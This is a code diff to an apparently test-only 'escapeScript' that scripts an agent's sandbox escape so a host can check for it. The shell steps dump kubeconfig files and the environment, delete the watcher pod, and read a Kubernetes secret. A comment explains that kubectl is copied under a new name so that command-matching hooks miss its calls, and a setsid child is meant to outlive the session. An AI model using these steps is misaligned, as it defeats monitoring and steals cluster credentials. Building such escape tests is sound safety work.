@@ -17,6 +17,8 @@ export interface EscapeTargets {
   readonly namespace: string;
   readonly pod: string;
   readonly secret: string;
+  /** The real kubectl binary (the agent copies it, so no hook matching `kubectl` sees its calls). */
+  readonly kubectl: string;
   /** `sleep <seconds>` names the setsid child, so the host can look for it. */
   readonly sleepSeconds: number;
   readonly report: string;
@@ -33,7 +35,7 @@ export function escapeScript(t: EscapeTargets): ScriptStep[] {
     shell('ps -eo pid,user,args; id; hostname'),
     shell(`cat ${t.watcherKubeconfig}; ls -la ~/.kube /root/.kube /etc/kubernetes; env`),
     shell(
-      `cp /usr/bin/kubectl ./k; ./k --kubeconfig ${t.watcherKubeconfig} delete pod ${t.pod} -n ${t.namespace} --wait=false; ` +
+      `cp ${t.kubectl} ./k; ./k --kubeconfig ${t.watcherKubeconfig} delete pod ${t.pod} -n ${t.namespace} --wait=false; ` +
         `./k --kubeconfig ${t.watcherKubeconfig} get secret ${t.secret} -n ${t.namespace} -o yaml; ` +
         `./k get secret ${t.secret} -n ${t.namespace} -o yaml; ./k delete pod ${t.pod} -n ${t.namespace} --wait=false`,
     ),
